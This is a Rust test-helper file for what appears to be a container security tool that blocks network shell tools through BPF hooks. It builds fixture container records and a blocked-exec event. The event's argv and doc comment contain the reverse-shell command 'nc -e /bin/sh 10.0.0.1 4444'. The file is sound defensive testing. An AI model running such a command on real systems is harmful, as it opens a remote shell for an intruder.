//! What the tests of several modules share.

use std::{fs, path::Path};

use portcullis_bpf::abi::{Ancestor, Event, Hook, Verdict, identified_by};
use portcullis_policy::{
    policyset::{Backend, Mode},
    record::{ContainerRecord, DIR_NAME, FORMAT, Guard, file_name},
};

/// A guarded container's record.
pub fn record(cgroup_id: u64, container_id: &str) -> ContainerRecord {
    ContainerRecord {
        format: FORMAT,
        cgroup_id,
        cgroup_path: format!("/nonexistent/{container_id}").into(),
        container_id: container_id.into(),
        containerd_namespace: "default".into(),
        containerd_address: "/nonexistent/containerd.sock".into(),
        pid: 100,
        bundle: "/nonexistent/bundle".into(),
        policy_id: 1,
        policy: "default".into(),
        mode: Mode::Enforce,
        mode_reason: "policy".into(),
        backend: Some(Backend::Lsm),
        guard: Guard::Guarded,
        contents_unknown: None,
        annotations: [].into(),
        created_ns: 1_700_000_000_000_000_000,
        ended_ns: None,
    }
}

/// Writes a record as the shim does.
pub fn write_record(run_dir: &Path, record: &ContainerRecord) {
    let name = file_name(record.cgroup_id, &record.containerd_namespace, &record.container_id);
    let directory = run_dir.join(DIR_NAME);
    let temporary = directory.join(format!(".{name}"));
    fs::write(&temporary, serde_json::to_vec(record).unwrap()).unwrap();
    fs::rename(temporary, directory.join(name)).unwrap();
}

/// `nc -e /bin/sh 10.0.0.1 4444`, blocked.
pub fn event(cgroup_id: u64, tool: u32, time_ns: u64) -> Event {
    let argv = |text: &str| text.split(' ').map(|argument| argument.as_bytes().to_vec()).collect();
    Event {
        verdict: Verdict::Blocked,
        time_ns,
        start_time_ns: 5,
        cgroup_id,
        leaf_cgroup_id: cgroup_id,
        inode: 1234,
        file_size: 99,
        policy: 1,
        tool,
        identified_by: identified_by::INVOKED_NAME | identified_by::RESOLVED_NAME,
        hook: Hook::BprmCheck,
        flags: 0,
        pid: 100,
        tid: 101,
        ns_pid: 7,
        uid: 1000,
        gid: 1001,
        argc: 5,
        place: 0,
        remote: None,
        invoked: b"nc".to_vec(),
        tty: b"pts0".to_vec(),
        filename: b"/bin/nc".to_vec(),
        exe: b"/usr/bin/nc.openbsd".to_vec(),
        cwd: b"/tmp".to_vec(),
        argv: argv("nc -e /bin/sh 10.0.0.1 4444"),
        lineage: vec![Ancestor {
            start_time_ns: 4,
            pid: 99,
            ns_pid: 6,
            uid: 0,
            flags: 0,
            argc: 3,
            exe: b"/bin/sh".to_vec(),
            argv: argv("sh -c x"),
        }],
    }
}
